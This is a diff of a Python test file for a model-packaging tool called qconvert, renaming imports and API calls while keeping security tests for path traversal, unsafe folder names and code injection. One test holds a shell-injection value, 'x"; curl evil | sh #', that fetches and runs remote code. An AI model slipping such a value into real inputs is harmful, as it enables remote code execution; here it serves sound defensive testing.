@@ -11,17 +11,18 @@ from typing import Any
 import numpy as np
 import pytest
 
-from qconvert import store
-from qconvert.errors import QConvertError, UsageError
-from qconvert.feeds import TensorSpec
-from qconvert.pipeline import engines
-from qconvert.pipeline.finished import finished
-from qconvert.pipeline.run_folder import RunFolder
-from qconvert.pipeline.targets import pictures, resolve
-from qconvert.report import as_json
-from qconvert.serving.package import Wanted, package
-from qconvert.serving.run_script import script
-from qconvert.serving.shipment import gather
+from qconvert.core import cache
+from qconvert.core.errors import QConvertError, UsageError
+from qconvert.core.tensors import TensorSpec
+from qconvert.package.bundle import make_bundle
+from qconvert.package.onnxruntime_folder import run_script
+from qconvert.package.pack import PackageOptions, write_package
+from qconvert.report import json_file
+from qconvert.run import built_engines
+from qconvert.run.finished_run import load_run
+from qconvert.run.report_files import report_images
+from qconvert.run.run_folder import RunFolder
+from qconvert.run.targets import resolve
 from tests.conftest import Outcome
 
 ENGINE = Path("run/engines/cpu-int8")
@@ -56,7 +57,7 @@ def test_an_engine_names_files_of_its_own_folder_only(
 ) -> None:
     rewritten(**changed)
     with pytest.raises(QConvertError, match="holds no engine") as caught:
-        engines.read(ENGINE)
+        built_engines.read_engine(ENGINE)
     assert said in str(caught.value)
     for place in (Path("run"), ENGINE):
         with pytest.raises(QConvertError, match="holds no engine"):
@@ -68,19 +69,21 @@ def test_a_package_takes_nothing_from_elsewhere(form: Any, world: Path) -> None:
     Path("secret").write_text("secret")
     rewritten(files=["../../../secret"], graph="../../../secret")
     with pytest.raises(QConvertError, match="is no file in it"):
-        package(finished(Path("run")), Wanted(form, Path("out/pack"), "cpu-int8"))
+        write_package(load_run(Path("run")), PackageOptions(form, Path("out/pack"), "cpu-int8"))
     assert not Path("out").exists()
 
 
 def test_a_package_name_stays_in_its_folder(world: Path) -> None:
     for name in ("..", "../x", "/x", "a/b", ".", "a\nb", "a;b"):
         with pytest.raises(UsageError, match="cannot be the name of a folder"):
-            package(finished(Path("run")), Wanted("triton", Path("out"), "cpu-int8", name))
+            write_package(
+                load_run(Path("run")), PackageOptions("triton", Path("out"), "cpu-int8", name)
+            )
     assert not Path("out").exists()
 
 
 def test_no_name_of_a_model_or_an_engine_becomes_code(world: Path) -> None:
-    found = gather(finished(Path("run")), "cpu-int8")
+    found = make_bundle(load_run(Path("run")), "cpu-int8")
     (ENGINE / HOSTILE).write_bytes(b"")
     told = replace(
         found,
@@ -89,7 +92,7 @@ def test_no_name_of_a_model_or_an_engine_becomes_code(world: Path) -> None:
     )
     from qconvert.backends import cpu
 
-    program = script(told, cpu.loading(told.engine))
+    program = run_script(told, cpu.load_spec(told.engine))
     words = {each.value for each in ast.walk(ast.parse(program)) if isinstance(each, ast.Constant)}
     assert HOSTILE in words
     assert not [each for each in ast.walk(ast.parse(program)) if isinstance(each, ast.Raise)]
@@ -98,7 +101,9 @@ def test_no_name_of_a_model_or_an_engine_becomes_code(world: Path) -> None:
 def test_what_an_engine_was_made_with_becomes_no_command_of_a_shell(world: Path) -> None:
     rewritten(made_with={"runtime": 'x"; curl evil | sh #'})
     with pytest.raises(UsageError, match="no package and its release"):
-        package(finished(Path("run")), Wanted("onnxruntime", Path("pack"), "cpu-int8"))
+        write_package(
+            load_run(Path("run")), PackageOptions("onnxruntime", Path("pack"), "cpu-int8")
+        )
     assert not Path("pack").exists()
 
 
@@ -139,13 +144,13 @@ def test_pictures_that_a_report_names_elsewhere_are_not_shown(name: str, world: 
         {"image": "b", "picture": "own.png"},
     ]
     Path("run/report.json").write_text(json.dumps(told))
-    report = as_json.load(Path("run/report.json"))
-    assert pictures(report, Path("run")) == {"own.png": b"own"}
+    report = json_file.load(Path("run/report.json"))
+    assert report_images(report, Path("run")) == {"own.png": b"own"}
 
 
 def test_an_engine_of_a_stranger_is_tried_once(world: Path) -> None:
     resolve([ENGINE])
-    kept = [each.step for each in store.default().entries()]
+    kept = [each.step for each in cache.open_default().entries()]
     assert "rehearse" in kept
     resolve([ENGINE])
-    assert [each.step for each in store.default().entries()] == kept
+    assert [each.step for each in cache.open_default().entries()] == kept
